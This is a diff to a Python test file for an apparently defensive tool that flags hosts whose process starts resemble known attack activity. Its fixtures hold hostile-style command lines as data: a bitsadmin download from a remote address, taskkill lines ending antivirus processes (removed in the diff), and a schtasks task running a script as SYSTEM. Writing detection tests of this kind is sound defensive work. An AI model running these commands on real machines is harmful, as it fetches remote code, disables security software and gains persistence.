@@ -33,7 +33,7 @@ DEED = Deed(DAY, "v", "attacked", "svc", "mssql", S32 + "bitsadmin.exe", ATTACK,
 
 def looks(*rows: dict[str, Any], deeds: tuple[Deed, ...] = (DEED,)) -> list[tuple[str, date]]:
     of_fleet = fleet(pl.DataFrame([*QUIET, *rows], schema=STARTS, orient="row"), deeds)
-    found = alike(clusters(list(deeds), of_fleet.known | {"bitsadmin.exe", "taskkill.exe"}), of_fleet)
+    found = alike(clusters(list(deeds), of_fleet.known | {"bitsadmin.exe", "schtasks.exe"}), of_fleet)
     return [(each.host, each.day) for each in found]
 
 
@@ -70,12 +70,13 @@ def test_what_means_little_is_lawful_however_rare() -> None:
 
 
 def test_things_that_mean_little_alone_mean_something_together() -> None:
-    """Another place and no program at the end; ending a security product beside it tips the scale."""
-    deeds = (DEED, replace(DEED, image=S32 + "taskkill.exe", command_line="taskkill /im 360sd.exe /f"))
-    fetch = start(7, "bitsadmin /transfer n http://203.0.113.5/a c:\\Users\\Public\\a.dat")
-    kill = start(7, "taskkill /f /im 360tray.exe", S32 + "taskkill.exe")
-    assert looks(kill, deeds=deeds) == []
-    assert looks(fetch, kill, deeds=deeds) == [("h7", DAY)]
+    """No program at the end of the one; but a task of the system's beside it tips the scale."""
+    task = "schtasks /create /tn {} /tr c:\\jobs\\a.cmd /ru SYSTEM"
+    deeds = (DEED, replace(DEED, image=S32 + "schtasks.exe", command_line=task.format("u")))
+    fetch = start(7, "bitsadmin /transfer n http://cdn.example.net/a c:\\Users\\Public\\a.dat")
+    made = start(7, task.format("other"), S32 + "schtasks.exe")
+    assert looks(fetch, deeds=deeds) == [] and looks(made, deeds=deeds) == []
+    assert looks(fetch, made, deeds=deeds) == [("h7", DAY)]
 
 
 def test_an_alerts_own_host_days_are_not_told_again() -> None:
